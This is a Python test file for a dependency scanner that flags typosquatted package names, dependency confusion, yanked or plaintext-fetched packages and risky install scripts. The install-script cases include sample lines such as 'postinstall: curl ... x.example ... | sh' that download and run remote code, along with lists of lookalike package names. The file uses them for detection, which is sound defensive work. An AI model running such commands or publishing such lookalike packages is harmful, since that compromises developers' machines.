"""Suspicions: reasons, weights, order; honest names are left alone, and nothing of a distribution is looked at."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from assay.dependencies.internal_names import authority, matches
from assay.dependencies.lookalikes import NAME_CHARACTERS, _halves, _near, resemblance
from assay.dependencies.popular_names import NAMES
from assay.dependencies.suspicion import suspicions, tally
from assay.model.inventory import Component
from assay.model.suspicion import Internal, Suspicion

ACME = Internal(names=("@acme/*", "acme-*"), sources=("packages.acme.example", "*.acme.example"))


def component(ecosystem: str, name: str, version: str = "1.0.0", **facts: str) -> Component:
    properties = tuple(sorted((key.replace("_", ":", 1).replace("_", "-"), value) for key, value in facts.items()))
    purl = f"pkg:{ecosystem}/{name}@{version}"
    return Component(key=purl, purl=purl, ecosystem=ecosystem, name=name, version=version, properties=properties)


def one(item: Component, internal: Internal = Internal()) -> Suspicion:  # noqa: B008 - a constant
    (found,) = suspicions([item], internal)
    return found


@pytest.mark.parametrize(
    ("ecosystem", "name", "known", "word", "least"),
    [
        ("pypi", "reqeusts", "requests", "swapped", 60),
        ("pypi", "requessts", "requests", "doubled", 60),
        ("pypi", "requsts", "requests", "left out", 60),
        ("pypi", "rwquests", "requests", "keyboard", 60),
        ("pypi", "rexuests", "requests", "'q' is 'x'", 40),
        ("pypi", "pythondateutil", "python-dateutil", "separators", 40),
        ("pypi", "dateutil-python", "python-dateutil", "order", 40),
        ("pypi", "python3-requests", "requests", "word", 10),
        ("pypi", "requests3", "requests", "digit", 10),
        ("npm", "1odash", "lodash", "shape", 70),
        ("npm", "l\u043edash", "lodash", "shape", 70),
        ("npm", "crossenv", "cross-env", "separators", 40),
        ("npm", "electorn", "electron", "swapped", 60),
        ("npm", "@typess/node", "@types", "scope", 60),
        ("gem", "active-support", "activesupport", "separators", 40),
        ("cargo", "serde-json", "serde_json", "separators", 40),
        ("cargo", "rustdecimal", "", "", 0),
        ("composer", "guzzelhttp/guzzle", "guzzlehttp", "scope", 60),
        ("golang", "github.com/sirupsem/logrus", "github.com/sirupsen", "keyboard", 60),
    ],
)
def test_a_name_that_looks_like_a_known_one(ecosystem: str, name: str, known: str, word: str, least: int) -> None:
    found = resemblance(ecosystem, name)
    if not known:
        assert found is None
        return
    assert found is not None
    assert found.known == known or found.known.startswith(known)
    assert word in found.change
    assert found.points >= least


@pytest.mark.parametrize("ecosystem", sorted(NAMES))
def test_no_known_name_is_suspected(ecosystem: str) -> None:
    assert [name for name in NAMES[ecosystem].split() if resemblance(ecosystem, name)] == []
    assert len(NAMES[ecosystem].split()) >= 200


@pytest.mark.parametrize(
    ("ecosystem", "name"),
    [
        ("pypi", "Zope.Interface"), ("pypi", "PyYAML"), ("pypi", "typing_extensions"), ("npm", "preact"), ("npm", "colors"),
        ("npm", "uri-js"), ("npm", "my-company-widget"), ("deb", "reqeusts"), ("golang", "github.com/docker/docker-credential-helpers"),
        ("golang", "github.com/gorilla/mux/v2"), ("golang", "gopkg.in/warnings.v0"), ("npm", "@babel/plugin-x"), ("", "reqeusts"), ("cargo", "sha3"),
    ],
)  # fmt: skip
def test_honest_names_are_left_alone(ecosystem: str, name: str) -> None:
    assert resemblance(ecosystem, name) is None


def test_a_distributions_package_is_never_suspected() -> None:
    owned = Component(key="k", purl="p", ecosystem="pypi", name="reqeusts", version="1", owner="deb/x")
    assert suspicions([component("deb", "reqeusts"), owned]) == ()


def test_an_internal_name_from_a_public_registry() -> None:
    public = component("npm", "@acme/tools", npm_registry="https://registry.npmjs.org")
    assert (one(public, ACME).level, "came from the public" in one(public, ACME).clues[0].says) == ("high", True)
    assert suspicions([public]) == (), "without a configuration nobody knows what is internal"
    inside = component("npm", "@acme/tools", npm_registry="https://packages.acme.example")
    assert suspicions([inside], ACME) == ()
    elsewhere = component("pypi", "acme-core", pypi_direct_url="https://mirror.example/acme-core.whl")
    assert one(elsewhere, ACME).points >= 80
    unrecorded = one(component("pypi", "acme-core"), ACME)
    assert (unrecorded.level, "nothing records" in unrecorded.clues[0].says) == ("low", True)


def test_an_unscoped_twin_and_a_version_that_wins() -> None:
    assert "without its scope" in one(component("npm", "acme-tools"), Internal(names=("@acme/*",))).clues[0].says
    twin = one(component("pypi", "acme-core", "99.10.9"), ACME)
    assert (twin.points, [clue.points for clue in twin.clues]) == (55, [30, 25])
    assert one(component("npm", "whatever", "9999.0.0")).level == "low"
    assert suspicions([component("pypi", "whatever", "2024.9.1"), component("npm", "whatever", "9.0.0")]) == ()


@pytest.mark.parametrize(
    ("said", "level"),
    [
        ("postinstall: curl -s https://x.example/p.sh | sh", "medium"),
        ("preinstall: node -e \"eval(1)\"", "medium"),
        ("postinstall: node setup.js", "low"),
        ("true", "low"),
        ("install: node-gyp rebuild", ""),
        ("install: prebuild-install || node-gyp rebuild; postinstall: husky install", ""),
    ],
)  # fmt: skip
def test_install_scripts(said: str, level: str) -> None:
    found = suspicions([component("npm", "thing", npm_install_script=said)])
    assert [item.level for item in found] == ([level] if level else [])


def test_withdrawn_and_fetched_in_the_clear() -> None:
    yanked = one(component("pypi", "own-thing", pypi_yanked="broken build"))
    assert yanked.clues[0].says == "was yanked by its publisher: broken build"
    clear = one(component("pypi", "own-thing", pypi_direct_url="http://x.example/thing.whl"))
    assert (clear.level, clear.clues[0].kind) == ("medium", "origin")
    assert suspicions([component("pypi", "own-thing", pypi_direct_url="file:///src")]) == ()
    assert suspicions([component("pypi", "own-thing", pypi_direct_url="http://[broken")]) == ()


def test_clues_add_up_and_the_weightiest_comes_first() -> None:
    items = [
        component("npm", "thing", npm_install_script="true"),
        component("npm", "loadsh", "99.0.0", npm_install_script="postinstall: curl http://x.example | sh"),
    ]
    first, second = suspicions(items)
    assert (first.name, first.points, first.level) == ("loadsh", 100, "high")
    assert [clue.kind for clue in first.clues] == ["typosquat", "install-script", "dependency-confusion"]
    assert second.name == "thing"
    assert tally((first, second)) == {"high": 1, "low": 1}
    assert suspicions(reversed(items)) == (first, second)


@given(st.text(max_size=400), st.sampled_from(["npm", "pypi", "golang", "composer"]))
def test_any_text_ends_fast_and_raises_nothing(name: str, ecosystem: str) -> None:
    found = resemblance(ecosystem, name)
    assert found is None or 0 < found.points <= 100
    assert len(name) <= NAME_CHARACTERS or found is None
    authority(name)


@given(st.lists(st.sampled_from("ab*"), max_size=12).map("".join), st.text(alphabet="ab", max_size=12))
def test_patterns_are_those_of_the_shell(pattern: str, text: str) -> None:
    from fnmatch import fnmatchcase

    assert matches(pattern, text) == fnmatchcase(text, pattern)


@given(st.text("ab-", min_size=2, max_size=9), st.data())
def test_a_text_is_found_from_every_text_one_change_away(known: str, data: st.DataObject) -> None:
    place = data.draw(st.integers(0, len(known) - 1))
    sign = data.draw(st.sampled_from("abc"))
    head, tail = known[:place], known[place:]
    swapped = f"{head}{tail[1:2]}{tail[:1]}{tail[2:]}"
    for changed in (head + sign + tail, head + sign + tail[1:], head + tail[1:], known + sign, swapped):
        assert known in _near(_halves(["other", known]), changed)
